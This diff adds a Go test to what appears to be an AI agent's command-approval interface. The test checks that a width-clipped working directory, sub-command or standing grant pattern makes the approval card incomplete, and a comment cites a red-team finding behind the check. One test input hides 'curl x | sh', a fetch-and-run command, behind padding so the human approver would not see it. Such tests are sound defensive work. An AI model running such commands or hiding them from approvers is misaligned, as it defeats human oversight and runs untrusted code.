@@ -173,3 +173,39 @@ func TestOffersSayForWhomWhereAndUntilWhen(t *testing.T) {
 		t.Error("ScopeLine must be empty exactly when the answer is not offered")
 	}
 }
+
+// A field the approval depends on that the channel's width clipped — the
+// working directory, a sub-command, a grant pattern — makes the card not
+// whole, so that a channel that cannot show it all offers no approval
+// (red team: such clips left the card "whole").
+func TestAClippedFieldTheApprovalDependsOnIsACut(t *testing.T) {
+	long := "/home/dev/" + strings.Repeat("d", 60)
+	cases := []struct {
+		name string
+		edit func(q *messages.ApprovalNeeded)
+		want string
+	}{
+		{"the working directory", func(q *messages.ApprovalNeeded) { q.Request.Cwd = long }, "working directory"},
+		{"a sub-command", func(q *messages.ApprovalNeeded) {
+			q.Risk.Subcommands = []messages.Verdict{{Command: "make " + strings.Repeat("t", 60) + " && curl x | sh", Action: "ask"}}
+		}, "sub-command's end"},
+		{"an Always pattern", func(q *messages.ApprovalNeeded) {
+			q.Offers = []messages.GrantOffer{{Scope: messages.ScopeAlways, Offered: true, Tool: "bash",
+				Patterns: []string{"git push origin " + strings.Repeat("b", 60)}}}
+		}, "Always pattern's end"},
+	}
+	l := card.Limits{Command: 40, Pattern: 40}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			q := bash(`{"command":"ls"}`)
+			if v := card.Present(q, l); !v.Whole() {
+				t.Fatalf("the plain card is cut: %v", v.Cut)
+			}
+			tc.edit(&q)
+			v := card.Present(q, l)
+			if v.Whole() || !strings.Contains(strings.Join(v.Cut, "; "), tc.want) {
+				t.Fatalf("cut %v, want it to name %q", v.Cut, tc.want)
+			}
+		})
+	}
+}
